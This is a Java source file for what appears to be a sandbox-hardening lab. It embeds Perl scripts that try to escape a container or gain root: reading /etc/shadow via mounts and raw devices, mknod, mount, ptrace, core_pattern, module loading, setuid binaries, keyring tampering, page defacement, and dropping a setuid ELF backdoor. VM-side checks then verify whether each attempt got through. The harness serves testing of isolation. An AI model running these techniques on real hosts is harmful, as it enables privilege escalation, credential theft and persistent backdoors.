package onekernel.labs.hardening;

/**
 * What the robber tries, for a Perl in the shop that has {@code way}, {@code at}, {@code done},
 * {@code show} and {@code leave}. Before each way stands its name; whatever succeeded is put back,
 * so that an attack may be repeated.
 */
final class Attacks {
  /** Printed where an attack got at something that has no words of its own. */
  static final String DONE = "DONE NONCE";

  /**
   * Calls {@code $see} for each file of the shop, apart from where {@code %apart} leads. The shop's
   * Perl has no modules, and so no {@code glob}.
   */
  private static final String WALK =
      """
      sub files { opendir FOLDER, $_[0] or return; map "$_[0]/$_", grep !/^[.]/, readdir FOLDER }
      my %apart = ("/proc", 1, "/sys", 1);
      sub walk {
        my ($at, $see) = @_;
        opendir my $folder, $at or return;
        for my $name (readdir $folder) {
          next if $name eq "." or $name eq "..";
          my $file = $at eq "/" ? "/$name" : "$at/$name";
          next if $apart{$file} or not lstat $file or -l _;
          -d _ ? walk($file, $see) : $see->($file);
        }
      }
      """;

  private Attacks() {}

  /** Reads the superblock's magic number off the VM's disk; {@code numbers} are its device's. */
  private static String onTheDisk(String numbers) {
    return """
    my ($major, $minor) = (NUMBERS);
    my ($disk, $kind, $at) = ("/dev/vda", "ext4", "/mnt");
    sub magic {
      my $two = "";
      sysopen DEVICE, $_[0], 0 and seek DEVICE, 1080, 0 and read DEVICE, $two, 2;
      done if $two eq "\\x53\\xef";
    }
    at "through the files of vm, which are mounted in there";
    my @procs;
    open my $mounts, "<", "/proc/self/mountinfo";
    for (<$mounts>) {
      my ($device, $folder, $point) = (split)[2, 3, 4];
      push @procs, $point if / - proc / and $folder eq "/";
      $apart{$point} = 1 if / - (proc|sysfs) /;
      next if $point eq "/" or $folder =~ m{^/srv/shop(/|$)};
      my $its = $device eq "$major:$minor";
      $its or -f "$point/etc/shadow" or next;
      $apart{$point} = 1;
      open SHADOW, "<", "$_/shadow" and <SHADOW> and done for $point, "$point/etc";
      $folder =~ m{/shadow$} and open SHADOW, "<", $point and <SHADOW> and done;
      $its and sysopen NEW, "$point/NONCE", 0101 and unlink "$point/NONCE" and done;
    }
    my (@disks, @climbing);
    walk "/", sub { -b _ ? push @disks, $_[0] : -u _ && -f _ && push @climbing, $_[0] };
    at "by reading the device";
    magic $_ for @disks;
    way "by making the device anew, with mknod";
    for my $folder ("/tmp", "/dev", "/run", "/orders") {
      my $device = "$folder/NONCE";
      syscall(133, $device, 0060600, $major << 8 | $minor) == 0 or next;
      magic $device;
      unlink $device;
      last;
    }
    way "by mounting it";
    syscall(165, $disk, $at, $kind, 0, 0) == 0 and done(), syscall(166, $at, 0);
    way "through the memory of a process outside (SYS_PTRACE)";
    for (files("/proc")) {
      /\\d$/ and -f "$_/root/etc/shadow" and open MEMORY, "+<", "$_/mem" and done(), last;
    }
    way "by naming the program that the kernel starts as its own root at a crash (core_pattern)";
    my $proc = "proc";
    syscall(272, 1 << 17) == 0 and syscall(165, $proc, $at, $proc, 0, 0) == 0 and push @procs, $at; # unshare, mount
    open SETTING, ">>", "$_/sys/kernel/core_pattern" and done(), last for @procs;
    syscall 166, $at, 0 if $at eq ($procs[-1] // "");
    way "by loading a module into the kernel of vm (SYS_MODULE)";
    syscall 175, 0, 0, 0;
    done if $! == 8; # it is no module; whoever may not load any is told that instead
    way "by talking to the hardware, past the kernel (SYS_RAWIO)";
    syscall(173, 0x80, 1, 1) == 0 and done; # ioperm
    """
        .replace("NUMBERS", numbers.replace(':', ','));
  }

  /** Reads the accountant's ledger. */
  private static final String ON_THE_LEDGER =
      """
      my $it = "/orders/ledger";
      my ($mode, $owner) = (stat $it)[2, 4];
      at $owner == $> ? "as its owner" : $mode & 4 ? "because its mode lets everybody: chmod 600 it"
          : "although the mode forbids it (DAC_OVERRIDE or DAC_READ_SEARCH)";
      show $it;
      way "by changing its mode (FOWNER)";
      chmod 0644, $it and show($it), chmod $mode & 07777, $it;
      way "by taking it over (CHOWN)";
      chown 0, -1, $it and show($it), chown $owner, -1, $it;
      for my $program (@climbing) {
        way "through $program, which makes a root of everybody";
        system $program, "-e", q{
          sub look { open L, "<", "/orders/ledger" and print <L> }
          look; $< = $>; $< = $> = 4321; look};
      }
      way "by taking off what is mounted over it (SYS_ADMIN)";
      syscall(272, 1 << 17) == 0 and syscall(166, $it, 2) == 0 and show $it; # unshare, umount
      way "by becoming user 4321 (SETUID)";
      $( = $) = 4321; $< = $> = 4321; show $it;
      """;

  /** The disk first, because whoever goes for the ledger becomes somebody else. */
  static String byRoot(String numbers) {
    return WALK + onTheDisk(numbers) + ON_THE_LEDGER;
  }

  /** In the VM: whose the ledger is, and what it says to the accountant. */
  static final String LEDGER_AFTERMATH =
      """
      print((stat("/srv/shop/orders/ledger"))[4], "\\n");
      $) = "4321 4321"; $> = 4321;
      open(LEDGER, "<", "/srv/shop/orders/ledger") and print(<LEDGER>);
      """;

  /**
   * Becomes root in the shop, or at least reads root's file, through any program that does in Perl
   * what it is told: a power may be written onto each, but the robber's own has it here already.
   * Changes the page, the programs, or anything else that the shop is made of.
   */
  static String byUser() {
    return WALK
        + """
        at "id $>";
        my $own = join " ", (stat "/proc/self/exe")[0, 1];
        my @programs;
        walk "/", sub {
          -f _ or return;
          my $large = (stat _)[2] & 1 && -s _ > 99 << 10 && $_[0] !~ m{[.]so[.][^/]*$|/busybox$};
          push @programs, $_[0] if -u _ or $large and $own ne join " ", (stat _)[0, 1];
        };
        at "by reading it";
        show "/safe";
        sub add { at "$_[0]: $_[1]"; open FILE, ">>", $_[1] and done }
        sub put { at "$_[0]: $_[1]"; open FILE, ">", $_[1] and unlink $_[1] and done }
        sub all {
          add $_[0], $_ for "/www/index.html", "/www/cgi-bin/order", "/bin/shop";
          put $_[0], "$_/NONCE" for "/www", "/www/cgi-bin", "/bin", "/etc";
        }
        all "by writing";
        way "by changing modes and owners";
        my %mode = map { $_ => (stat)[2] & 07777 } "/www", files("/www"), files("/www/cgi-bin");
        my @changed = grep { ! -l and chmod $mode{$_} | 0200, $_ and (stat)[2] & 07777 ^ $mode{$_} } keys %mode;
        all "after a chmod" if @changed;
        chmod $mode{$_}, $_ for @changed;
        my %whose = map { $_ => (stat)[4] } keys %mode, "/safe";
        my @taken = grep { $whose{$_} != $> and chown $>, -1, $_ } keys %whose;
        all("after a chown"), show "/safe" if @taken;
        chown $whose{$_}, -1, $_ for @taken;
        if (open OLD, "<", "/www/index.html" and open NEW, ">", "/www/NONCE") {
          print NEW <OLD>;
          close NEW;
          way "by putting another page in its place";
          rename "/www/NONCE", "/www/index.html" and done;
        }
        my ($none, $root) = ("none", "/");
        way "by a remount";
        syscall(165, $none, $root, $none, 32, 0) == 0 and all "after a remount";
        for my $program (@programs) {
          way "through $program";
          system $program, "-e", q{
            $< = $> = 0; $< = $>;
            print "ROOT NONCE\\n" unless $>;
            open S, "<", "/safe" and print <S>;
            sub all { print "#through $ARGV[0]$_[0]\\n"; open F, ">>", "/www/index.html" and print "DONE NONCE\\n" }
            all ": /www/index.html";
            my ($none, $root) = ("none", "/");
            syscall(165, $none, $root, $none, 32, 0) == 0 and all ", after a remount"}, $program;
        }
        way "by becoming user 0 (SETUID)";
        $< = $> = 0;
        print "ROOT NONCE\\n" unless $>;
        show "/safe";
        """;
  }

  /**
   * Reads the key of this name off the kernel's ring of root, and puts another one there. Each time
   * somebody else tries: a filter may kill whoever makes a call.
   */
  static String onTheKeys(String name) {
    return """
    my ($kind, $name, $value, $nothing) = ("user", "NAME", " " x 99, "");
    sub key { syscall 250, @_ }
    sub somebody {
      my $other = fork;
      if ($other) { waitpid $other, 0; return }
      $_[0]->();
      leave if defined $other;
    }
    sub found {
      key(8, -4, -3);
      my $id = key(10, -4, $kind, $name, 0);
      if ($id < 0 and open KEYS, "<", "/proc/keys") {
        /^(\\w+) .* user +$name: / and $id = hex $1 for <KEYS>;
      }
      $id < 0 ? syscall 249, $kind, $name, 0, -4 : $id;
    }
    somebody sub {
      way "by reading it";
      my $id = found;
      my $length = $id < 0 ? -1 : key(11, $id, $value, 99);
      print substr($value, 0, $length), "\\n" if $length > 0;
    };
    somebody sub {
      way "by writing over it";
      my $id = found;
      $id > 0 and key(2, $id, $nothing, 0) < 0 and $! == 22 and done;
    };
    somebody sub {
      my ($gift, $words) = ("gift-NONCE", "gift");
      syscall 248, $kind, $gift, $words, length $words, -4;
    };
    way "by a call that was refused";
    somebody sub {
      for (333, 425) { $! = 0; syscall $_, 0, 0, 0, 0, 0, 0; $! == 14 or $! == 22 and done }
    };
    """
        .replace("NAME", name);
  }

  /**
   * In the VM: what this key on root's ring says to root, and whether the robber's is there, which
   * is taken off.
   */
  static String keysAftermath(String name) {
    return """
    my ($kind, $safe, $gift, $value) = ("user", "NAME", "gift-NONCE", " " x 99);
    syscall(250, 8, -4, -3);
    my $id = syscall(250, 10, -4, $kind, $safe, 0);
    my $length = $id < 0 ? 0 : syscall(250, 11, $id, $value, 99);
    print(substr($value, 0, $length), "\\n") if $length > 0;
    $id = syscall(250, 10, -4, $kind, $gift, 0);
    $id < 0 or print("gift"), syscall(250, 9, $id, -4);
    """
        .replace("NAME", name);
  }

  /**
   * Reads what is root's and the accountant's, also as whoever inside is one of them outside, and
   * leaves a program that makes its owner of whoever starts it.
   *
   * <p>The gift is as small as a program can be; it ends with 0 where root runs it: {@code
   * geteuid}, {@code exit}.
   */
  static String asRoot() {
    return """
    way "id $>";
    show "/orders/key"; show "/orders/ledger";
    my %map;
    for my $kind ("uid", "gid") {
      open my $map, "<", "/proc/self/${kind}_map" or next;
      $map{$kind} = [<$map>];
      print "$kind", "_map $_" for @{$map{$kind}};
    }
    for (@{$map{uid}}) {
      my ($in, $out, $count) = split;
      for my $who (0, 4321) {
        my $is = $in + $who - $out;
        next if $who < $out or $who >= $out + $count or $is == 0;
        next if fork and wait;
        $( = $) = $is; $< = $> = $is;
        show "/orders/key"; show "/orders/ledger";
        leave;
      }
    }
    my $code = pack "H*", "b86b0000000f0585c0400f95c7b83c0000000f05";
    my ($at, $size) = (0x400000, 120 + length $code);
    if (open my $gift, ">", "/orders/gift-NONCE") {
      print $gift "\\x7fELF", pack("C4 x8 S2 L Q3 L S6", 2, 1, 1, 0, 2, 62, 1, $at + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0),
          pack("L2 Q6", 1, 5, 0, $at, $at, $size, $size, 4096), $code;
      close $gift;
      chmod 04755, "/orders/gift-NONCE";
    }
    """;
  }

  /**
   * In the VM: all whom it knows; who owns the gift, or else who the shop's process is, the names
   * that the VM has for user and group; and whether who starts the gift is root.
   */
  static final String GIFT_AFTERMATH =
      """
      while (my @known = getpwent()) { print("known uid $known[2] $known[0]\\n") }
      while (my @known = getgrent()) { print("known gid $known[2] $known[0]\\n") }
      my $gift = "/srv/shop/orders/gift-NONCE";
      my ($user, $group) = (stat($gift))[4, 5];
      my $left = defined($user);
      unless ($left) {
        my $door = sprintf(":%04X", $port);
        my %waits;
        for my $table ("/proc/net/tcp", "/proc/net/tcp6") {
          open(SOCKETS, "<", $table) or next;
          /$door \\S+ 0A / and $waits{"socket:[" . (split)[9] . "]"} = 1 for <SOCKETS>;
        }
        opendir(PROCESSES, "/proc");
        for my $its (map { /^\\d/ ? "/proc/$_" : () } readdir(PROCESSES)) {
          opendir(FILES, "$its/fd") or next;
          grep { $waits{readlink("$its/fd/$_") // ""} } readdir(FILES) or next;
          open(STATUS, "<", "$its/status") or exit;
          /^([UG])id:\\s+(\\d+)/ and ($1 eq "U" ? $user : $group) = $2 for <STATUS>;
          last;
        }
        defined($user) or exit;
      }
      print("owner $user ", getpwuid($user) // "", "\\ngroup $group ", getgrgid($group) // "", "\\n");
      exit unless $left;
      my $somebody = fork();
      unless ($somebody) {
        $) = "65534 65534"; $( = 65534; $< = $> = 65534;
        exec($gift) or exit(127);
      }
      waitpid($somebody, 0);
      print("starts root\\n") if $? == 0;
      unlink($gift);
      """;

  /** Reads all three tills. */
  static String onTheMarket() {
    return """
    for ("shop/till", "baker/till", "bank") {
      at $_;
      show "/market/$_" or print "$!\\n";
    }
    """;
  }

  /** In the VM: SELinux's mode, what it wrote down of this visit, and the labels of the tills. */
  static final String MARKET_AFTERMATH =
      """
      open(MODE, "<", "/sys/fs/selinux/enforce") and print("mode ", <MODE>, "\\n");
      my $kind = "security.selinux";
      for my $till ("shop/till", "baker/till", "bank") {
        my ($file, $label) = ("/srv/market/$till", " " x 255);
        my $length = syscall(191, $file, $kind, $label, 255); # getxattr
        print("label ", $length > 0 ? substr($label, 0, $length) =~ tr/\\0//dr : "?", "\\n");
      }
      my $message;
      while (sysread(KERNEL, $message, 8192) or $! == 32) { # EPIPE: some were lost
        $message =~ /;(.*avc:.*)/ and print("$1\\n");
      }
      """;
}
